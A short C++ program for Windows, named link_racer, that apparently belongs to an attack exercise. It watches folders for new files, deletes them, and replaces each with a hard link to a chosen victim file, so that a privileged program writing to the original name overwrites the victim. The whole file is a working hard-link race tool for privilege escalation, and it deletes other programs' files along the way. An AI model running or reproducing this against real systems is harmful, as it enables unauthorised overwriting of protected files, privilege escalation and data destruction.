// A program of the player's own account that wants in: it watches folders
// (and the folders that appear below them) for new files, whatever their
// names, and replaces each one it can by a hard link to a file of its own,
// hoping that an elevated program then writes through the name into that
// file. Runs until the stop file exists; its exit code is the number of
// files it replaced (at most 250).
//   link_racer VICTIM STOPFILE FOLDER...
#include <windows.h>

#include <set>
#include <string>
#include <vector>

namespace {

void Walk(const std::string& folder, int depth, std::vector<std::string>* files) {
  WIN32_FIND_DATAA found;
  HANDLE search = FindFirstFileA((folder + "\\*").c_str(), &found);
  if (search == INVALID_HANDLE_VALUE) return;
  do {
    std::string name = found.cFileName;
    if (name == "." || name == "..") continue;
    std::string path = folder + "\\" + name;
    if (!(found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY)) files->push_back(path);
    else if (depth > 0) Walk(path, depth - 1, files);
  } while (FindNextFileA(search, &found));
  FindClose(search);
}


}  // namespace

int main(int argc, char** argv) {
  if (argc < 4) return 255;
  std::string victim = argv[1], stop = argv[2];
  std::vector<std::string> folders(argv + 3, argv + argc);
  std::vector<std::string> files;
  for (const std::string& folder : folders) Walk(folder, 3, &files);
  std::set<std::string> known(files.begin(), files.end());
  int replaced = 0;
  while (GetFileAttributesA(stop.c_str()) == INVALID_FILE_ATTRIBUTES) {
    files.clear();
    for (const std::string& folder : folders) Walk(folder, 3, &files);
    for (const std::string& path : files) {
      if (known.count(path) || _stricmp(path.c_str(), victim.c_str()) == 0) continue;
      // A file still held by its writer refuses deletion: try again later.
      if (!DeleteFileA(path.c_str())) continue;
      known.insert(path);
      if (CreateHardLinkA(path.c_str(), victim.c_str(), nullptr) && replaced < 250) ++replaced;
    }
  }
  return replaced;
}
